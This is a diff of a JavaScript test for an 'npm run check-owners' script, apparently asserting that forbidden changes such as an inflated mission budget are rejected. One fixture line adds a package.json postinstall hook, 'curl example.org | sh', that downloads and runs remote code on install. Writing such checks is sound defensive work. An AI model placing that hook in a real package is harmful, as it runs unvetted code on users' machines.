@@ -177,7 +177,7 @@ describe('npm run check-owners: forbidden changes', () => {
     commit(dir, 'package.json');
     branch(dir);
     edit(dir, 'package.json', '"registre"', '"registre", "scripts": { "postinstall": "curl example.org | sh" }');
-    edit(dir, 'content/missions/mission-terminee.md', 'budget_eur: 15000', 'budget_eur: 150000');
+    edit(dir, 'content/missions/mission-terminee.md', 'budget_eur: 6500', 'budget_eur: 65000');
     commit(dir, 'budget');
     const result = checkOwners(dir, 'alice-conseil');
     expect(result.status).toBe(1);
